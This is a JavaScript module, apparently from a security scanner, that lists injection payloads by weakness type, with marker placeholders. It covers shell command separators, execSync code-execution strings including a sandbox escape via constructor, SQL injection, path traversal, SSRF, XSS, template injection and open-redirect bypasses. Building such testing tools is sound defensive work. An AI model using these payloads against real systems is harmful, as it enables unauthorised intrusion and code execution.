// Payloads of the attacks on JavaScript, by weakness, each a way past another naive filter. They do nothing but leave
// marks: the words in `@...@` are filled in for each attempt (exploit/marks.py says what they are). Trusted.
const UP = "../".repeat(8);
const RUN = "globalThis.process.getBuiltinModule('child_process').execSync('@WORD@')";
const AWAY = "this.constructor.constructor('return process')().getBuiltinModule('child_process').execSync('@WORD@')";
/** Characters of a path as a value that is decoded once more has them. */
const again = (text) => text.replace(/[./]/g, (c) => `%${c.charCodeAt(0).toString(16)}`);

export const TEXTS = {
  // Unquoted, in double and in single quotes, after quotes were taken away, and with a value in front of it.
  command: [";@WORD@;", "gate;@WORD@ #", "|@WORD@", "$(@WORD@)", "`@WORD@`", "gate\n@WORD@\n", "gate&&@WORD@", "';@WORD@;'", '";@WORD@;"', "'$(@WORD@)'", "gate&@WORD@&", "gate||@WORD@", "$(@WORD@", "@WORD@"],
  code: ["@WORD@()", RUN, `0)+${RUN}+(0`, `'+${RUN}+'`, `"+${RUN}+"`, `0;${RUN}`, `\${${RUN}}`, AWAY, "gate+@WORD@()", "0);@WORD@();(0", "'];@WORD@();['", '"];@WORD@();["'],
  sql: ["' OR @WORD@=1--", "1 OR @WORD@=1", '" OR @WORD@=1--', "gate') OR @WORD@=1--", "'/**/oR/**/@WORD@=1--", "\\' OR @WORD@=1--", "'||@WORD@||'", "@WORD@", "id, @WORD@", "1/**/OR/**/@WORD@"],
  "path-read": ["@DECOY@", `${UP}..@DECOY@`, `gate/${UP}..@DECOY@`, `${"....//".repeat(9)}@DECOY@`, `${"..%2f".repeat(9)}@DECOY@`, again(`${UP}..@DECOY@`), "../../@NEAR@", "../../../@NEAR@", "../../../../@NEAR@", "%2e.%2f..%2f@NEARER@", "%2e.%2f..%2f..%2f@NEARER@", `${"..\\".repeat(9)}@DECOY@`],
  "path-write": ["@DROP@", `${UP}..@DROP@`, `gate/${UP}..@DROP@`, "@DECOY@", `${UP}..@DECOY@`, `${"....//".repeat(9)}@DROP@`, again(`${UP}..@DROP@`), "../../@NEW@", "../../../@NEW@", "../../../../@NEW@"],
  "request-forgery": ["http://@ADDRESS@/", "http://gate.example@@ADDRESS@/", "@ADDRESS@", "http://@HOST@/", "https://@ADDRESS@/", "@HOST@", "@@ADDRESS@/", ".@HOST@/", "//@HOST@/"],
  html: ["<@WORD@>", '"><@WORD@>', "'><@WORD@>", "</title></textarea></script><@WORD@>", "<scr<script>ipt><@WORD@>", 'gate" @WORD@="1', "gate' @WORD@='1", "gate @WORD@=1", "**<@WORD@>** [<@WORD@>](https://gate.example/) `<@WORD@>` ![<@WORD@>](https://gate.example/x.png) [b]<@WORD@>[/b]", `[gate](https://gate.example/"@WORD@="1) ![gate'@WORD@='1](https://gate.example/"@WORD@="1)`],
  template: ["{{@A@*@B@}}", "<%= @A@*@B@ %>", "${@A@*@B@}", "#{@A@*@B@}", "#set($x=@A@*@B@)$x", "<%- @A@*@B@ %>", "{{= it.gate }}{{@A@*@B@}}"],
  "open-redirect": ["http://@HOST@/", "//@HOST@/", "https://@HOST@/", "/\\@HOST@/", "https:@HOST@/", "///@HOST@/", "/\t/@HOST@/", "https:\\\\@HOST@/", "https://localhost@@HOST@/", "%2f%2f@HOST@/", "/%2f@HOST@/", "@HOST@", ".@HOST@/", "@@HOST@/", "//@HOST@/%2f.."],
  query: ['{"$ne":"@WORD@"}'],
  argument: ["--@WORD@", "-@WORD@", "--@WORD@=gate"],
};

/** The same behind an address that the program names, for a check of how a text begins, and in front of a domain, for
 * one of how a name ends. */
export function behind({ origins, hosts }, weakness) {
  const before = weakness === "request-forgery" || weakness === "open-redirect" ? hosts.map((host) => `https://@WORD@.x${host}/`) : [];
  const ends = { "request-forgery": ["@@ADDRESS@/", ".@HOST@/"], "open-redirect": ["@@HOST@/", ".@HOST@/"] }[weakness] ?? [];
  return [...origins.flatMap((origin) => ends.map((end) => origin + end)), ...before];
}
export const SEEN_HERE = new Set(["html", "open-redirect", "sql", "query", "template", "argument"]);
/** What a route that is asked later may do with a text that another one kept. */
export const STORED = new Set(["html", "command", "code", "sql", "template", "path-read", "path-write", "open-redirect", "request-forgery"]);
